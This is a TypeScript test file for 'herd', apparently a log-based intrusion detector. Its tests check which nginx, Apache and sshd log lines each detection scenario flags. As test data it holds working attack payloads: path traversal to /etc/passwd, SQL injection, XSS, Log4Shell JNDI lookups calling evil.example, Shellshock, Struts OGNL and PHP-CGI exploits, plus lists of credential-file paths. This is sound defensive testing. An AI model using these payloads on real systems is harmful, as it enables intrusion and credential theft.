import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadContent, loadHerdConfig, type LoadedContent } from '../../src/agent/index.js';
import { ManualClock, silentLogger } from '../../src/core/index.js';
import { DecisionHistory } from '../../src/decisions/index.js';
import { newLogEvent, TIMEMACHINE, type Event } from '../../src/parse/index.js';
import { BucketEngine, type Overflow } from '../../src/scenarios/index.js';

/**
 * herd's own scenarios (content/scenarios): which parsed lines each filter takes. Attack payloads
 * seen in the wild must be taken; the benign lines that look like them must not. The lines go
 * through herd's own parsers first, as in production.
 */

const NOW = Date.UTC(2025, 9, 11, 8, 0, 0);
let dataDir: string;
let content: LoadedContent;
let clock: ManualClock;

beforeAll(() => {
  dataDir = mkdtempSync(join(tmpdir(), 'herd-content-'));
  clock = new ManualClock(NOW);
  content = loadContent(loadHerdConfig({ dataDir }), { clock, logger: silentLogger(), history: new DecisionHistory(() => clock.now()) });
});

afterAll(() => {
  rmSync(dataDir, { recursive: true, force: true });
});

const engine = () => new BucketEngine(content.scenarios, { mode: TIMEMACHINE, clock });

function parse(type: string, raw: string): Event {
  const evt = newLogEvent({ raw, src: `/var/log/${type}.log`, module: 'file', labels: { type }, readAt: NOW }, TIMEMACHINE);
  const problems: string[] = [];
  const ok = content.parser.parse(evt, { report: (kind, where, detail) => problems.push(`${kind} ${where} ${detail}`) });
  expect(problems, raw).toEqual([]);
  expect(ok, `parsed: ${raw}`).toBe(true);
  return evt;
}

/**
 * The scenarios whose filter takes the line. Also pours it into a fresh engine, whose quick field
 * checks must agree with the filters (the event goes to as many buckets as there are matches).
 */
function scenariosOf(raw: string, type = 'nginx'): string[] {
  const evt = parse(type, raw);
  expect(evt.Whitelisted, raw).toBe(false);
  const names = engine().matchingScenarios(evt);
  expect(engine().pour(evt, () => {}), `poured: ${raw}`).toBe(names.length);
  return names;
}

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

interface Req {
  verb?: string;
  status?: number;
  ua?: string;
  referer?: string;
  ip?: string;
  time?: string;
}

/** An nginx combined access line. */
function access(path: string, r: Req = {}): string {
  return `${r.ip ?? '198.51.100.23'} - - [${r.time ?? '10/Oct/2025:13:55:36 +0200'}] "${r.verb ?? 'GET'} ${path} HTTP/1.1" ${r.status ?? 404} 153 "${r.referer ?? '-'}" "${r.ua ?? CHROME}"`;
}

it('loads every herd scenario', () => {
  expect(content.scenarios.map((s) => s.name).sort()).toEqual([
    'herd/http-bf-login',
    'herd/http-crawl-disguised',
    'herd/http-crawl-non-statics',
    'herd/http-cve-probe',
    'herd/http-log4shell',
    'herd/http-path-traversal-probing',
    'herd/http-probing',
    'herd/http-scanner-user-agent',
    'herd/http-sensitive-files',
    'herd/http-slow-bf-login',
    'herd/http-slow-probing',
    'herd/http-sqli-probing',
    'herd/http-xss-probing',
    'herd/ssh-bad-keyexchange',
    'herd/ssh-bruteforce',
    'herd/ssh-slow-bruteforce',
    'herd/ssh-user-enumeration',
  ]);
});

describe('herd/http-path-traversal-probing', () => {
  const S = 'herd/http-path-traversal-probing';
  it.each([
    '/../../../../etc/passwd',
    '/static/..%2f..%2f..%2fetc%2fpasswd',
    '/download?file=..%252f..%252f..%252fetc%252fpasswd',
    '/%252e%252e%252f%252e%252e%252fetc%252fpasswd',
    '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/index.php?page=....//....//....//etc/passwd',
    '/?file=/etc/passwd',
    '/?file=../../../../proc/self/environ',
    '/?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00',
    '/api/v1/files?path=..%2F..%2Fetc%2Fshadow',
    '/files/..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam',
    '/?f=..\\..\\..\\windows\\win.ini',
    '/..%c0%af..%c0%afetc/passwd',
    '/?page=php://filter/convert.base64-encode/resource=../../config.php',
    '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  ])('takes %s', (path) => {
    expect(scenariosOf(access(path))).toContain(S);
  });

  it.each(['/docs/../index.html', '/blog/2024/01/post', '/search?q=..+and+so+on', '/files/report..final.pdf', '/docs/linux/etc-passwd-explained', '/?next=/etc/'])('leaves %s', (path) => {
    expect(scenariosOf(access(path))).not.toContain(S);
  });

  it('needs a second such request before it alerts: one mistyped "../../" is not enough', () => {
    // A person may paste a relative link like this once: the filter takes it (noted, accepted), and the
    // bucket (capacity 1) waits for a second one before it alerts.
    expect(scenariosOf(access('/blog/../../about'))).toContain(S);
    const e = engine();
    const alerts: Overflow[] = [];
    e.pour(parse('nginx', access('/blog/../../about', { time: '10/Oct/2025:13:55:36 +0200' })), (o) => alerts.push(o));
    expect(alerts.map((o) => o.scenario.name)).not.toContain(S);
    e.pour(parse('nginx', access('/blog/../../../etc/passwd', { time: '10/Oct/2025:13:55:40 +0200' })), (o) => alerts.push(o));
    expect(alerts.map((o) => o.scenario.name)).toContain(S);
  });
});

describe('herd/http-sqli-probing', () => {
  const S = 'herd/http-sqli-probing';
  it.each([
    '/item.php?id=1%27%20OR%20%271%27=%271',
    '/index.php?id=1%22%20or%20%22a%22=%22a',
    '/?user=admin%27%20or%201=1%23',
    '/login?user=admin%27--',
    '/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--',
    '/news.php?id=-1+union+select+1,group_concat(table_name),3+from+information_schema.tables--',
    '/?id=1/**/UNION/**/SELECT/**/1,2,3',
    '/?id=1%20AND%201=2%20UNION%20SELECT%20username,password%20FROM%20users',
    "/products?cat=1'%20AND%20SLEEP(5)--%20-",
    '/?id=1%27%20AND%20pg_sleep(5)--',
    '/?id=1)%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--',
    '/?id=1%20WAITFOR%20DELAY%20%270:0:5%27--',
    '/?id=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--',
    '/search?q=1;DROP%20TABLE%20users',
    '/?id=extractvalue(1,concat(0x7e,version()))',
    '/?id=1%27%20AND%20(SELECT%204828%20FROM(SELECT%20COUNT(*),CONCAT(0x71,(SELECT%20(ELT(4828=4828,1))),0x71,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)--%20xyz',
    '/?id=1%20ORDER%20BY%2010--',
    '/p?id=1%2527%2520or%25201%253D1',
  ])('takes %s', (path) => {
    expect(scenariosOf(access(path))).toContain(S);
  });

  it.each([
    '/search?q=select+a+union+rep',
    '/search?q=how+to+select+from+a+list',
    '/search?q=union+select+committee',
    '/search?q=union+station+select+trains',
    '/search?q=%22select%22+from+list',
    '/search?q=select%2Bfrom%2Bwhere%2Bsql',
    '/articles/union-select-and-other-sql-keywords',
    '/blog/select-the-best-union-for-you',
    '/search?q=what+is+an+sql+injection',
    '/search?q=O%27Reilly+books',
    '/search?q=it%27s+raining',
    '/search?q=tom%27s+diner+and+cafe',
    '/search?q=rock+and+roll',
    '/search?q=1+or+2+bedrooms',
    '/search?q=drop+shipping',
    '/search?q=order+by+date',
    '/products?sort=price&order=desc',
    '/search?q=baby+sleep+(6+months)',
    '/?s=benchmark+(2024)',
    '/wiki/Category:Union_(set_theory)',
  ])('leaves %s', (path) => {
    expect(scenariosOf(access(path))).not.toContain(S);
  });
});

describe('herd/http-xss-probing', () => {
  const S = 'herd/http-xss-probing';
  it.each([
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/?q=%3CScRiPt%3Eprompt(1)%3C/sCrIpT%3E',
    '/search?q=%22%3E%3Csvg/onload=alert(document.domain)%3E',
    '/?q=%3Csvg%20onload%3Dalert%281%29%3E',
    '/?q=%3Cimg%20src=x%20onerror=prompt(1)%3E',
    '/?q=%3Cimg%20src%3D1%20onerror%3D%22fetch(%27//evil.example%27)%22%3E',
    '/?q=javascript:alert(1)',
    '/?redirect=javascript%3Aalert(document.cookie)',
    '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    "/?name=%3Cbody%20onload=alert('xss')%3E",
    '/?q=%3Ciframe%20src=javascript:alert(1)%3E',
    '/?q=%3Cdetails%20open%20ontoggle=confirm(1)%3E',
    '/search?q=%22%3E%3Cscript%3Ealert%60XSS%60%3C%2Fscript%3E',
    '/?x="-alert(document.cookie)-"',
  ])('takes %s', (path) => {
    expect(scenariosOf(access(path))).toContain(S);
  });

  it.each([
    '/search?q=script+writing+tips',
    '/search?q=javascript+tutorial',
    '/search?q=%3Cb%3Ebold%3C%2Fb%3E',
    '/search?q=alert+system',
    '/help?topic=onload+event',
    '/search?q=how+to+delete+a+cookie+document',
    '/docs/svg/embedding-images',
    '/forms/input-validation',
  ])('leaves %s', (path) => {
    expect(scenariosOf(access(path))).not.toContain(S);
  });
});

describe('herd/http-log4shell', () => {
  const S = 'herd/http-log4shell';
  it.each([
    ['in the query', access('/?x=${jndi:ldap://evil.example/a}', { status: 200 })],
    ['URL-encoded in the path', access('/%24%7Bjndi:ldap://evil.example/a%7D')],
    ['double-encoded in the query', access('/?q=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D')],
    ['in the user agent', access('/', { status: 200, ua: '${jndi:ldap://45.83.193.150:1389/Exploit}' })],
    ['in the referer', access('/', { status: 200, referer: '${jndi:dns://evil.example/a}' })],
    ['mixed case', access('/', { status: 200, ua: '${jNdI:LdAp://evil.example/a}' })],
    ['obfuscated with ${lower:}', access('/', { status: 200, ua: '${${lower:j}${lower:n}${lower:d}i:${lower:r}m${lower:i}://evil.example/x}' })],
    ['obfuscated with ${::-}', access('/', { status: 200, ua: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}' })],
    ['obfuscated with ${env:…:-}', access('/', { status: 200, ua: '${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a' })],
    ['in an error-log request', '2025/10/10 13:55:36 [error] 1#1: *1 open() "/srv/x" failed (2: No such file or directory), client: 198.51.100.23, server: example.com, request: "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", host: "example.com"'],
  ])('takes a lookup %s', (_what, line) => {
    expect(scenariosOf(line)).toContain(S);
  });

  it.each([
    ['a template left in a link', access('/?price=${price}', { status: 200 })],
    ['a shell-like variable in a referer', access('/', { status: 200, referer: 'https://example.com/?q=${HOME}' })],
    ['a normal browser', access('/', { status: 200 })],
  ])('leaves %s', (_what, line) => {
    expect(scenariosOf(line)).not.toContain(S);
  });

  it('alerts on the first request (a trigger)', () => {
    const alerts: Overflow[] = [];
    engine().pour(parse('nginx', access('/', { status: 200, ua: '${jndi:ldap://evil.example/a}' })), (o) => alerts.push(o));
    expect(alerts.map((o) => o.scenario.name)).toContain(S);
  });
});

describe('herd/http-cve-probe', () => {
  const S = 'herd/http-cve-probe';
  it.each([
    ['Spring4Shell', access('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di', { verb: 'POST', status: 200 })],
    ['PHPUnit eval-stdin', access('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { verb: 'POST' })],
    ['PHPUnit eval-stdin elsewhere', access('/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['Apache 2.4.49 cgi-bin traversal', access('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', { verb: 'POST', status: 400 })],
    ['Apache 2.4.50 double-encoded traversal', access('/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh', { status: 400 })],
    ['Apache 2.4.49 icons traversal', access('/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', { status: 400 })],
    ['ThinkPHP RCE', access('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21', { status: 200 })],
    ['Shellshock in the user agent', access('/cgi-bin/status', { status: 200, ua: "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'" })],
    ['F5 iControl REST', access('/mgmt/tm/util/bash', { verb: 'POST' })],
    ['Laravel Ignition', access('/_ignition/execute-solution', { verb: 'POST', status: 405 })],
    ['Spring Cloud Gateway', access('/actuator/gateway/routes')],
    ['Struts OGNL', access('/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/')],
    ['PHP-CGI argument injection', access('/hello.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', { verb: 'POST', status: 200 })],
    ['PHP-CGI argument injection (CVE-2024-4577)', access('/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', { verb: 'POST', status: 200 })],
    ['WebLogic console (CVE-2020-14882)', access('/console/css/%252e%252e%252fconsole.portal')],
  ])('takes %s', (_what, line) => {
    expect(scenariosOf(line)).toContain(S);
  });

  it.each(['/vendor/bootstrap/css/bootstrap.min.css', '/cgi-bin/status', '/icons/apache_pb.gif', '/actuator/health', '/console', '/think-tank/about', '/classes/module-1'])('leaves %s', (path) => {
    expect(scenariosOf(access(path, { status: 200 }))).not.toContain(S);
  });
});

describe('herd/http-scanner-user-agent', () => {
  const S = 'herd/http-scanner-user-agent';
  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 zgrab/0.x',
    'gobuster/3.6',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'Fuzz Faster U Fool v2.1.0',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 (Acunetix-Aspect)',
    'WhatWeb/0.5.5',
    'ZmEu',
    'Mozilla/5.0 (compatible; Nessus)',
  ])('takes %s', (ua) => {
    expect(scenariosOf(access('/', { status: 200, ua }))).toContain(S);
  });

  it.each([
    CHROME,
    'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 300.0',
    'curl/8.5.0',
    'python-requests/2.31.0',
    'Go-http-client/1.1',
    'okhttp/4.9.0',
    'Wget/1.21.4',
    'PostmanRuntime/7.36.0',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
    'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
    'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
    'Zapier',
    'kube-probe/1.28',
  ])('leaves %s', (ua) => {
    expect(scenariosOf(access('/', { status: 200, ua }))).not.toContain(S);
  });
});

describe('herd/http-sensitive-files', () => {
  const S = 'herd/http-sensitive-files';
  it.each([
    '/.env',
    '/.env.production',
    '/api/.env',
    '/%2eenv',
    '/.git/config',
    '/.git/HEAD',
    '/.svn/entries',
    '/.DS_Store',
    '/.htpasswd',
    '/.aws/credentials',
    '/.ssh/id_rsa',
    '/id_rsa',
    '/wp-config.php',
    '/wp-config.php.bak',
    '/wp-config.php~',
    '/config.php.bak',
    '/backup.zip',
    '/www.zip',
    '/backup.tar.gz',
    '/db.sql',
    '/dump.sql.gz',
    '/phpinfo.php',
    '/server-status',
    '/web.config',
    '/docker-compose.yml',
    '/.git-credentials',
    '/.npmrc',
    '/.bash_history',
    '/sftp-config.json',
  ])('takes %s', (path) => {
    expect(scenariosOf(access(path))).toContain(S);
  });

  it.each(['/environment', '/envelope.png', '/blog/git-tutorial', '/docs/config.php', '/static/app.js.map', '/settings', '/credentials-help', '/downloads/report-2024.zip', '/.well-known/security.txt'])(
    'leaves %s',
    (path) => {
      expect(scenariosOf(access(path))).not.toContain(S);
    },
  );
});

describe('herd/http-probing and herd/http-slow-probing', () => {
  const PROBING = ['herd/http-probing', 'herd/http-slow-probing'];
  it.each([
    ['/wp-admin/setup-config.php', 404],
    ['/phpmyadmin/', 404],
    ['/admin.php', 403],
    ['/api/v1/admin', 401],
    ['/xmlrpc.php', 405],
    ['/cgi-bin/test.cgi', 400],
  ])('takes a page answered with an error: %s %d', (path, status) => {
    expect(scenariosOf(access(path, { status }))).toEqual(expect.arrayContaining(PROBING));
  });

  it.each([
    '/robots.txt',
    '/favicon.ico',
    '/favicon-32x32.png',
    '/apple-touch-icon-precomposed.png',
    '/apple-touch-icon.png',
    '/sitemap.xml',
    '/sitemap_index.xml',
    '/ads.txt',
    '/humans.txt',
    '/.well-known/security.txt',
    '/.well-known/acme-challenge/abc',
    '/manifest.json',
    '/browserconfig.xml',
    '/img/missing-picture.jpg',
    '/js/old-bundle.js',
  ])('leaves the 404 of %s (browsers and bots ask for it on their own, or it is a static resource)', (path) => {
    const names = scenariosOf(access(path));
    for (const s of PROBING) expect(names).not.toContain(s);
  });

  it.each([
    ['/', 200],
    ['/login', 302],
    ['/api/orders', 500],
    ['/old-page', 301],
  ])('leaves a page that did not fail as a client error: %s %d', (path, status) => {
    const names = scenariosOf(access(path, { status }));
    for (const s of PROBING) expect(names).not.toContain(s);
  });
});

describe('herd/http-bf-login and herd/http-slow-bf-login', () => {
  const BF = ['herd/http-bf-login', 'herd/http-slow-bf-login'];
  it.each([
    ['WordPress login answered 200 (failed)', access('/wp-login.php', { verb: 'POST', status: 200 })],
    ['a login form answered 401', access('/login', { verb: 'POST', status: 401 })],
    ['an API token endpoint answered 403', access('/api/auth/token', { verb: 'POST', status: 403 })],
    ['XML-RPC answered 403', access('/xmlrpc.php', { verb: 'POST', status: 403 })],
    ['a sign-in page answered 401', access('/users/sign_in', { verb: 'POST', status: 401 })],
    ['an nginx basic-auth unknown user', '2025/10/10 13:55:36 [error] 1#1: *5 user "admin" was not found in "/etc/nginx/.htpasswd", client: 198.51.100.23, server: example.com, request: "GET /admin/ HTTP/1.1", host: "example.com"'],
    ['an nginx basic-auth wrong password', '2025/10/10 13:55:36 [error] 1#1: *5 user "bob": password mismatch, client: 198.51.100.23, server: example.com, request: "GET /admin/ HTTP/1.1", host: "example.com"'],
  ])('takes %s', (_what, line) => {
    expect(scenariosOf(line)).toEqual(expect.arrayContaining(BF));
  });

  it('takes Apache basic-auth failures', () => {
    expect(scenariosOf('[Fri Oct 10 13:55:36.123456 2025] [auth_basic:error] [pid 1] [client 198.51.100.23:5] AH01617: user bob: authentication failure for "/admin": Password Mismatch', 'apache2')).toEqual(
      expect.arrayContaining(BF),
    );
  });

  it.each([
    ['a successful WordPress login (redirect)', access('/wp-login.php', { verb: 'POST', status: 302 })],
    ['the login page itself', access('/login', { status: 200 })],
    ['a successful login', access('/login', { verb: 'POST', status: 302 })],
    ['an API call refused for another reason', access('/api/orders', { verb: 'POST', status: 403 })],
    ['a GET answered 401', access('/login', { status: 401 })],
  ])('leaves %s', (_what, line) => {
    const names = scenariosOf(line);
    for (const s of BF) expect(names).not.toContain(s);
  });
});

describe('herd/http-crawl-non-statics and herd/http-crawl-disguised', () => {
  it('counts pages fetched with GET or HEAD towards crawling, not static resources nor POSTs', () => {
    expect(scenariosOf(access('/blog/post-1', { status: 200 }))).toContain('herd/http-crawl-non-statics');
    expect(scenariosOf(access('/blog/post-1', { status: 200, verb: 'HEAD' }))).toContain('herd/http-crawl-non-statics');
    expect(scenariosOf(access('/css/site.css', { status: 200 }))).not.toContain('herd/http-crawl-non-statics');
    expect(scenariosOf(access('/comment', { status: 200, verb: 'POST' }))).not.toContain('herd/http-crawl-non-statics');
  });

  it('counts pages without referer from clients that do not announce a bot as disguised scraping', () => {
    expect(scenariosOf(access('/products/42', { status: 200 }))).toContain('herd/http-crawl-disguised');
    expect(scenariosOf(access('/products/42', { status: 200, ua: 'python-requests/2.31.0' }))).toContain('herd/http-crawl-disguised');
    expect(scenariosOf(access('/products/42', { status: 200, referer: 'https://example.com/products' }))).not.toContain('herd/http-crawl-disguised');
    expect(scenariosOf(access('/products/42', { status: 200, ua: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)' }))).not.toContain('herd/http-crawl-disguised');
    expect(scenariosOf(access('/products/42', { status: 200, ua: 'Mozilla/5.0 (compatible; Baiduspider/2.0)' }))).not.toContain('herd/http-crawl-disguised');
  });
});

describe('verified crawlers', () => {
  const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

  it('are whitelisted from their published range, so no scenario sees their 404s', () => {
    const evt = parse('nginx', access('/old-page-that-moved', { ip: '66.249.66.1', ua: GOOGLEBOT }));
    expect(evt.Whitelisted).toBe(true);
    expect(evt.WhitelistReason).toBe('verified search-engine crawler');
  });

  it('are not trusted on their user agent alone: a "Googlebot" elsewhere is probed like anyone', () => {
    const names = scenariosOf(access('/old-page-that-moved', { ip: '203.0.113.50', ua: GOOGLEBOT }));
    expect(names).toEqual(expect.arrayContaining(['herd/http-probing', 'herd/http-slow-probing', 'herd/http-crawl-non-statics']));
    expect(names).not.toContain('herd/http-crawl-disguised');
  });
});

describe('ssh scenarios', () => {
  const ssh = (message: string, second = 36) => `Oct 10 13:55:${String(second).padStart(2, '0')} web01 sshd[1234]: ${message}`;
  const BF = ['herd/ssh-bruteforce', 'herd/ssh-slow-bruteforce'];

  it.each([
    'Failed password for root from 203.0.113.7 port 52514 ssh2',
    'Failed password for invalid user admin from 203.0.113.7 port 52514 ssh2',
    'Invalid user oracle from 203.0.113.7 port 40000',
    'Connection closed by authenticating user root 203.0.113.7 port 52514 [preauth]',
    'Disconnected from invalid user admin 203.0.113.7 port 52514 [preauth]',
    'error: maximum authentication attempts exceeded for root from 203.0.113.7 port 52514 ssh2 [preauth]',
    'User root from 203.0.113.7 not allowed because not listed in AllowUsers',
  ])('count a failed authentication with a user towards brute force and user enumeration: %s', (message) => {
    expect(scenariosOf(ssh(message), 'syslog')).toEqual(expect.arrayContaining([...BF, 'herd/ssh-user-enumeration']));
  });

  it('count a bad banner as a failed authentication, without a user to enumerate', () => {
    const names = scenariosOf(ssh('banner exchange: Connection from 203.0.113.7 port 52514: invalid format'), 'syslog');
    expect(names).toEqual(expect.arrayContaining(BF));
    expect(names).not.toContain('herd/ssh-user-enumeration');
  });

  it('count key-exchange failures as scanning only', () => {
    expect(scenariosOf(ssh('Unable to negotiate with 203.0.113.7 port 52514: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]'), 'syslog')).toEqual(['herd/ssh-bad-keyexchange']);
  });

  it.each([
    'Accepted password for alice from 203.0.113.7 port 52514 ssh2',
    'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=alice',
    'fatal: Timeout before authentication for 203.0.113.7 port 52514',
  ])('leave %s', (message) => {
    expect(scenariosOf(ssh(message), 'syslog')).toEqual([]);
  });

  it('do not alert on a person who mistypes a password twice and then logs in', () => {
    const e = engine();
    const alerts: Overflow[] = [];
    const pour = (message: string, second: number) => e.pour(parse('syslog', ssh(message, second)), (o) => alerts.push(o));
    pour('Failed password for alice from 203.0.113.7 port 52514 ssh2', 10);
    pour('pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=alice', 10);
    pour('Failed password for alice from 203.0.113.7 port 52514 ssh2', 14);
    pour('Accepted password for alice from 203.0.113.7 port 52514 ssh2', 18);
    expect(alerts).toEqual([]);
  });

  it('alert on the sixth failed password within seconds', () => {
    const e = engine();
    const alerts: string[] = [];
    for (let i = 0; i < 6; i++) {
      e.pour(parse('syslog', ssh(`Failed password for root from 203.0.113.7 port ${50000 + i} ssh2`, 30 + i)), (o) => alerts.push(o.scenario.name));
      if (i < 5) expect(alerts, `after ${i + 1} failures`).toEqual([]);
    }
    expect(alerts).toContain('herd/ssh-bruteforce');
  });
});
